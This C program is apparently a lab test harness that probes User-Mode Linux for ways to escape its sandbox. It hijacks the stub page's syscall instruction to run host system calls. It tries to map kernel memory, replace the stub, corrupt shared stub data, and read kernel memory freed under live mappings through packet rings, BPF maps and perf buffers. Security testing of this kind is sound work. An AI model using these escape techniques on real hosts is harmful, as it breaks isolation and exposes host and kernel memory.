/*
 * A program in the lab that has the host's process, in which it runs, make system calls of the host.
 *
 * That process can make some, as the kernel of `um` has them made there, by code in a page that every program can
 * read and jump to. `site` is one of the instructions there. Each word of the command line is an attempt; what came of
 * it is printed as "word result". Built without a C library, as the test builds it with what it has.
 */
typedef unsigned long u64;
typedef unsigned int u32;

enum { READ, WRITE, OPEN, CLOSE, MMAP = 9, MUNMAP = 11, SIGACTION = 13, SIGRETURN = 15, YIELD = 24, NANOSLEEP = 35, GETPID = 39,
       SOCKET = 41, SOCKETPAIR = 53, SETSOCKOPT = 54, CLONE = 56, FORK = 57, EXIT = 60, WAIT4 = 61, FUTEX = 202, IO_SETUP = 206,
       IO_DESTROY = 207, EXIT_GROUP = 231, PERF_EVENT_OPEN = 298, BPF = 321 };
enum { PAGE = 4096, FLAGS = 0x1 | 0x10 | 0x8000 /* shared, fixed, populate */, ANONYMOUS = 0x20 };
enum { PROCESSES, KERNEL };
#define STUB_PAGE 0x7fffffff8000UL
#define WINDOW 0x200000000000UL
#define WINDOW_SIZE (64UL << 20)

static u64 site, resume;
static volatile long result;

static long call(long number, u64 a, u64 b, u64 c, u64 d, u64 e, u64 f)
{
	register u64 r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
	long back;

	__asm__ volatile("syscall" : "=a"(back) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return back;
}

/* The same by the instruction in the stub's page, which the trap behind it comes back from */
__attribute__((noinline)) static long stub_call(long number, u64 a, u64 b, u64 c, u64 d, u64 e, u64 f)
{
	register u64 r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
	long back = number;

	__asm__ volatile("lea 1f(%%rip), %%rcx\n mov %%rcx, %1\n jmp *%2\n 1:"
			 : "+a"(back), "=m"(resume)
			 : "m"(site), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
	return result;
}

struct context {
	u64 flags, link, stack[3], registers[23];
};
enum { RAX = 13, RSP = 15, RIP, EFLAGS, SELECTORS };

static void trapped(int number, void *info, struct context *context)
{
	result = context->registers[RAX];
	context->registers[RIP] = resume;
}

__asm__("restorer: mov $15, %eax\n syscall\n");
extern void restorer(void);

static int equal(const char *a, const char *b)
{
	while (*a && *a == *b)
		a++, b++;
	return *a == *b;
}

static void say(const char *what, long value)
{
	char line[100], digits[24];
	u64 n = 0, d = 0, left = value < 0 ? -(u64)value : (u64)value;

	for (; what[n] && n < 60; n++)
		line[n] = what[n];
	line[n++] = ' ';
	if (value < 0)
		line[n++] = '-';
	do
		digits[d++] = '0' + left % 10;
	while (left /= 10);
	while (d)
		line[n++] = digits[--d];
	line[n++] = '\n';
	call(WRITE, 1, (u64)line, n, 0, 0, 0);
}

/*
 * The data that a stub has in common with the kernel, and the words that say whose turn it is: stub-data.h. With them a
 * program serves the kernel by itself, and does nothing of what the stub is told to do.
 */
static volatile struct {
	long err;
	int orders;
	struct { u64 address, length, offset; int file, protection, call; } order[96] __attribute__((aligned(16)));
	short restart;
	int slot, patience, wake, signal;
	unsigned short si_offset, mcontext_offset;
	int call_allowed, resume;
	u64 registers[15];
} *const data = (void *)(STUB_PAGE + PAGE);
static volatile u32 *const turns = (void *)(STUB_PAGE + 3 * PAGE);
enum { OF_RSP = 6, OF_RDI, OF_RSI, OF_RDX, OF_R10, OF_R8, OF_R9, OF_RAX, OF_RCX };
enum { KERNELS_TURN = 2, BY_JUMP = 0x100 };

static long served_call(long number, u64 a, u64 b, u64 c)
{
	volatile u32 *turn = &turns[data->slot];

	data->registers[OF_RSP] = (u64)__builtin_frame_address(0);
	data->registers[OF_RDI] = a;
	data->registers[OF_RSI] = b;
	data->registers[OF_RDX] = c;
	data->registers[OF_RAX] = number;
	data->registers[OF_RCX] = (u64)served_call;
	data->signal = BY_JUMP;
	__atomic_exchange_n(turn, KERNELS_TURN, __ATOMIC_SEQ_CST);
	while (*turn >= KERNELS_TURN)
		__builtin_ia32_pause();
	data->orders = 0;
	return data->registers[OF_RAX];
}

static void rest(u64 milliseconds)
{
	u64 time[2] = { milliseconds / 1000, milliseconds % 1000 * 1000000 };

	call(NANOSLEEP, (u64)time, 0, 0, 0, 0, 0);
}

/* A pattern that is once in a page of ours, and once in the kernel's memory: a message that waits in a socket */
static struct {
	u64 words[8];
} pattern __attribute__((aligned(PAGE)));

static void leave_pattern(void)
{
	int ends[2];
	u64 i, seed = call(GETPID, 0, 0, 0, 0, 0, 0) + 12345;

	for (i = 0; i < 8; i++)
		pattern.words[i] = seed = seed * 6364136223846793005UL + 1442695040888963407UL;
	call(SOCKETPAIR, 1, 2, 0, (u64)ends, 0, 0);
	call(WRITE, ends[0], (u64)&pattern, sizeof(pattern), 0, 0, 0);
}

/* Where in the file the last one is that has this place in its page */
static u64 ours;

/* How often the pattern is in a file of memory */
static long found(int file, u64 from, u64 to, u64 place)
{
	long count = 0;
	u64 at, i;

	for (at = from; at < to; at += WINDOW_SIZE) {
		long mapped = stub_call(MMAP, WINDOW, WINDOW_SIZE, 1 /* read */, FLAGS, file, at);
		u64 *words = (u64 *)WINDOW;

		if (mapped != (long)WINDOW)
			return mapped;
		for (i = 0; i + 8 <= WINDOW_SIZE / 8; i++) {
			if (words[i] != pattern.words[0] || words[i + 1] != pattern.words[1] || words[i + 7] != pattern.words[7])
				continue;
			count++;
			if (i * 8 % PAGE == place)
				ours = at + i * 8;
		}
	}
	return count;
}

/* A page of code to put in place of the stub's, with the pattern beside the code, so that it can be found */
enum { BESIDE = 64 };
static unsigned char code[PAGE] __attribute__((aligned(PAGE)));

static void prepare(const unsigned char *instructions, u64 size)
{
	u64 i;

	for (i = 0; i < size; i++)
		code[i] = instructions[i];
	for (i = 0; i < sizeof(pattern); i++)
		code[BESIDE + i] = ((unsigned char *)&pattern)[i];
}

/* Memory of the kernel's that a program may have, by the ways to get it; where it is and what it is freed with */
enum { RING_BLOCKS = 2048, MAP_PAGES = 2048, PERF_PAGES = 512, EVENTS = 60000 };
static u64 given, given_size;
static int given_by = -1;
static u64 context;

static int make_ring(int socket, u32 block, u32 blocks)
{
	u32 ring[] = { block, blocks, PAGE / 2, block / (PAGE / 2) * blocks };

	return call(SETSOCKOPT, socket, 263 /* SOL_PACKET */, 5 /* PACKET_RX_RING */, (u64)ring, sizeof(ring), 0);
}

static int get_ring(void)
{
	given_size = (u64)RING_BLOCKS * PAGE;
	given_by = call(SOCKET, 17 /* AF_PACKET */, 3 /* raw */, 0, 0, 0, 0);
	return make_ring(given_by, PAGE, RING_BLOCKS);
}

static int get_map(void)
{
	u32 attributes[18] = { 2 /* an array */, 4, PAGE, MAP_PAGES, 1 << 10 /* BPF_F_MMAPABLE */ };

	given_size = (u64)MAP_PAGES * PAGE;
	given_by = call(BPF, 0 /* BPF_MAP_CREATE */, (u64)attributes, sizeof(attributes), 0, 0, 0);
	return given_by;
}

static int get_perf(void)
{
	u32 attributes[32] = { 1 /* software */, 128, 9 /* a dummy */ };

	given_size = (u64)(PERF_PAGES + 1) * PAGE;
	given_by = call(PERF_EVENT_OPEN, (u64)attributes, 0, -1UL, -1UL, 0, 0);
	return given_by;
}

/* Get memory of the kernel's, have it freed without an end to its mapping, and have the kernel fill it; what is seen of that */
static long outlive(const char *way, u64 size)
{
	enum { MESSAGES = 480, LENGTH = 3000, LAST = 64 << 20, MOST_BLOCKS = 4000 /* 1000 MB */ };
	static char message[LENGTH];
	long seen = 0, got, protection = 3;
	u64 i, at, from, flags = 1 /* shared */;
	int ends[2];

	if (equal(way, "ring"))
		got = get_ring();
	else if (equal(way, "map"))
		got = get_map();
	else if (equal(way, "perf"))
		got = get_perf();
	else if (equal(way, "events")) {
		got = call(IO_SETUP, EVENTS, (u64)&context, 0, 0, 0, 0);
		given = context;
		given_size = EVENTS / 128 * PAGE;
	} else {
		/* More than there is of the memory that only processes have */
		given_size = size;
		flags = 0x22 /* private, anonymous */;
		got = 0;
	}
	if (got < 0)
		return got;
	if (!given)
		given = call(MMAP, 0, given_size, protection, flags, given_by, 0);
	if ((long)given < 0 && (long)given > -4096)
		return given;
	for (at = given; at < given + given_size; at += PAGE)
		if (flags != 1 || equal(way, "ring") || equal(way, "map"))
			*(volatile char *)(at + 100) = 1;
		else
			*(volatile char *)(at + 100);
	/* Of much memory, the host's process has only the last that it used; it can lose all of it once more meanwhile */
	from = given_size > LAST ? given + given_size - LAST : given;
	for (i = 0; i < 2; i++)
		for (at = from; at < given + given_size; at += PAGE)
			*(volatile char *)(at + 100);
	say("served", served_call(GETPID, 0, 0, 0) == call(GETPID, 0, 0, 0, 0, 0, 0));
	if (given_by < 0 && flags == 1)
		served_call(IO_DESTROY, context, 0, 0);
	else
		served_call(MUNMAP, given, given_size, 0);
	if (given_by >= 0)
		served_call(CLOSE, given_by, 0, 0);
	rest(100); /* some of it is freed later */
	if (given_by < 0 && flags != 1) {
		/* The kernel takes pages that processes had when it has few others; it fills them with zeros */
		got = make_ring(call(SOCKET, 17, 3, 0, 0, 0, 0), 64 * PAGE, MOST_BLOCKS);
		if (got < 0)
			return got;
		for (at = from; at < given + given_size; at += PAGE)
			seen += *(volatile char *)(at + 100) != 1;
		return seen;
	}
	for (i = 0; i < sizeof(pattern); i++)
		message[i] = ((char *)&pattern)[i] ^ 0x55;
	for (i = 0; i < MESSAGES; i++)
		if (!call(SOCKETPAIR, 1, 2, 0, (u64)ends, 0, 0))
			call(WRITE, ends[0], (u64)message, LENGTH, 0, 0, 0);
	/* The mapping is still there, or reading it would end the program */
	for (at = from; at + sizeof(pattern) <= given + given_size; at += 8) {
		u64 *words = (u64 *)at;

		seen += words[0] == ((u64 *)message)[0] && words[1] == ((u64 *)message)[1] && words[7] == ((u64 *)message)[7];
	}
	return seen;
}

static void spin(void)
{
	for (;;)
		__builtin_ia32_pause();
}

/* Block the host's SIGALRM by a return from a signal that never came, and never do anything again */
static void spin_deaf(void)
{
	static char stack[PAGE] __attribute__((aligned(16)));
	static struct {
		struct context context;
		u64 floating, reserved[8], mask;
	} frame;

	frame.context.registers[RSP] = (u64)(stack + sizeof(stack) - 8);
	frame.context.registers[RIP] = (u64)spin;
	frame.context.registers[EFLAGS] = 0x202;
	frame.context.registers[SELECTORS] = 0x2bUL << 48 | 0x33;
	frame.mask = 1 << (14 /* SIGALRM */ - 1);
	__asm__ volatile("mov %0, %%rsp\n jmp *%1" : : "r"(&frame), "r"(site), "a"((long)SIGRETURN));
}

static volatile int thread_done;

__attribute__((used)) static void thread(void)
{
	say("thread", stub_call(MMAP, WINDOW, PAGE, 3, FLAGS, KERNEL, 0));
	thread_done = 1;
	call(EXIT, 0, 0, 0, 0, 0, 0);
}

static void attempt(const char *what, u64 size)
{
	static char stack[16384] __attribute__((aligned(16)));
	long value;

	if (equal(what, "processes"))
		say(what, found(PROCESSES, 0, size, 0));
	else if (equal(what, "kernel"))
		say(what, stub_call(MMAP, WINDOW, PAGE, 3, FLAGS, KERNEL, 8UL << 20));
	else if (equal(what, "kernel-code"))
		say(what, stub_call(MMAP, WINDOW, PAGE, 5, FLAGS, KERNEL, 8UL << 20));
	else if (equal(what, "kernel-high"))
		say(what, stub_call(MMAP, WINDOW, PAGE, 3, FLAGS, KERNEL | 1UL << 32, 8UL << 20));
	else if (equal(what, "other-file"))
		say(what, stub_call(MMAP, WINDOW, PAGE, 3, FLAGS, 2, 0));
	else if (equal(what, "anonymous"))
		say(what, stub_call(MMAP, WINDOW, PAGE, 3, FLAGS | ANONYMOUS, PROCESSES, 0));
	else if (equal(what, "write"))
		say(what, stub_call(WRITE, KERNEL, (u64)&pattern, 8, 0, 0, 0));
	else if (equal(what, "open"))
		say(what, stub_call(OPEN, (u64)"/etc/hostname", 0, 0, 0, 0, 0));
	else if (equal(what, "fork"))
		say(what, stub_call(FORK, 0, 0, 0, 0, 0, 0));
	else if (equal(what, "x32"))
		say(what, stub_call(0x40000000 | MMAP, WINDOW, PAGE, 3, FLAGS, KERNEL, 0));
	else if (equal(what, "thread")) {
		/* CLONE_VM, _FS, _FILES, _SIGHAND, _THREAD and _SYSVSEM */
		__asm__ volatile("syscall\n test %%eax, %%eax\n jnz 1f\n call thread\n 1:" : "=a"(value)
				 : "a"((long)CLONE), "D"(0x50f00L), "S"(stack + sizeof(stack)), "d"(0L)
				 : "rcx", "r11", "memory");
		while (!thread_done)
			call(YIELD, 0, 0, 0, 0, 0, 0);
	} else if (equal(what, "int80")) {
		__asm__ volatile("int $0x80" : "=a"(value) : "a"(20L), "b"(0L) : "memory");
		say(what, value == call(GETPID, 0, 0, 0, 0, 0, 0));
	} else if (equal(what, "int80-stub")) {
		/* mov $20, %eax; int $0x80: getpid as 32-bit programs ask for it */
		prepare((const unsigned char *)"\xb8\x14\0\0\0\xcd\x80", 7);
		found(PROCESSES, 0, size, BESIDE);
		stub_call(MMAP, STUB_PAGE, PAGE, 5, FLAGS, PROCESSES, ours & ~(PAGE - 1UL));
		((void (*)(void))STUB_PAGE)();
		say(what, 0);
	} else if (equal(what, "unmap-stub"))
		say(what, stub_call(MUNMAP, STUB_PAGE + PAGE, PAGE, 0, 0, 0, 0));
	else if (equal(what, "unmap-all"))
		say(what, stub_call(MUNMAP, 0, 1UL << 47, 0, 0, 0, 0));
	else if (equal(what, "unmap-across"))
		say(what, stub_call(MUNMAP, -(u64)PAGE, STUB_PAGE + 8 * PAGE, 0, 0, 0, 0));
	else if (equal(what, "replace-stub"))
		say(what, stub_call(MMAP, STUB_PAGE, PAGE, 5, FLAGS, PROCESSES, 0));
	else if (equal(what, "overlap-stub"))
		say(what, stub_call(MMAP, STUB_PAGE - PAGE, 2 * PAGE, 5, FLAGS, PROCESSES, 0));
	else if (equal(what, "below-stub"))
		say(what, stub_call(MMAP, STUB_PAGE - PAGE, PAGE, 1, FLAGS, PROCESSES, 0) == (long)(STUB_PAGE - PAGE));
	else if (equal(what, "sleep"))
		say(what, stub_call(FUTEX, (u64)&site, 0 /* wait */, (u32)site, 0, 0, 0));
	else if (equal(what, "sleep-in-turn"))
		say(what, stub_call(FUTEX, (u64)&turns[data->slot], 0 /* wait */, turns[data->slot], 0, 0, 0));
	else if (equal(what, "overwrite")) {
		u64 at, seed = 1;

		for (at = (u64)data; at < (u64)turns; at += 4)
			*(volatile u32 *)at = (seed = seed * 6364136223846793005UL + 1442695040888963407UL) >> 33;
		call(GETPID, 0, 0, 0, 0, 0, 0);
		say(what, 0);
	} else if (equal(what, "ring") || equal(what, "map") || equal(what, "perf") || equal(what, "events") || equal(what, "memory"))
		say(what, outlive(what, size));
	else if (equal(what, "spin-deaf"))
		spin_deaf();
	else if (equal(what, "vsyscall"))
		say(what, ((long (*)(long *))0xffffffffff600400UL)(0));
	else
		say("?", 0);
}

/* attack MEGABYTES WORD... */
__attribute__((used)) static void run(u64 *start)
{
	struct { void *handler; u64 flags; void *restorer; u64 mask; } action = { trapped, 4 | 0x04000000, restorer, 0 };
	unsigned char *stub = (unsigned char *)STUB_PAGE;
	char **words = (char **)(start + 1);
	u64 size = 0, i;
	char *digit;

	for (digit = words[1]; *digit; digit++)
		size = size * 10 + *digit - '0';
	for (i = 0; i < PAGE - 2 && !site; i++)
		if (stub[i] == 0x0f && stub[i + 1] == 0x05 && stub[i + 2] == 0xcc)
			site = STUB_PAGE + i;
	say("site", site != 0);
	call(SIGACTION, 5, (u64)&action, 0, 8, 0, 0);
	leave_pattern();
	for (i = 2; words[i]; i++)
		attempt(words[i], size << 20);
	call(EXIT_GROUP, 0, 0, 0, 0, 0, 0);
}

__attribute__((naked, used)) void _start(void)
{
	__asm__ volatile("mov %rsp, %rdi\n and $-16, %rsp\n call run\n");
}
